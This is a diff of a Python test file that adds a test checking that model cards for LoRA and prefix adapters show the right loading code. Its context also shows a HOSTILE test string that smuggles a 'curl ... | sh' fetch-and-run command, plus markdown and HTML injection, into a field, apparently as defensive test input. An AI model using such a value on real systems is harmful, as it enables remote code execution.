@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import pkgutil
 import re
 import shutil
 import subprocess
@@ -219,6 +220,19 @@ def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, rec
         tracemalloc.stop()
         assert peak < 12 << 20, name
         assert "\n" not in str(refusal.value), name
+
+
+def test_the_card_of_an_adapter_loads_it_into_its_base_model(finished):
+    run = read_run(finished)
+    cards = {}
+    for kind in ("lora", "prefix"):
+        peft = replace(run.config.peft, kind=kind)
+        cards[kind] = model_card(replace(run, config=replace(run.config, peft=peft)), 8, "")
+    base = 'AutoModelForCausalLM.from_pretrained("model")'
+    assert f'`PeftModel.from_pretrained({base}, "DIR")`' in cards["lora"]
+    function = pkgutil.resolve_name("lezo_ds.forward.adapters.load_prefix")  # peft reads no prefix
+    line = f'model = {base}; lezo_ds.forward.adapters.{function.__name__}(model, Path("DIR"))'
+    assert f"`{line}`" in cards["prefix"]
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
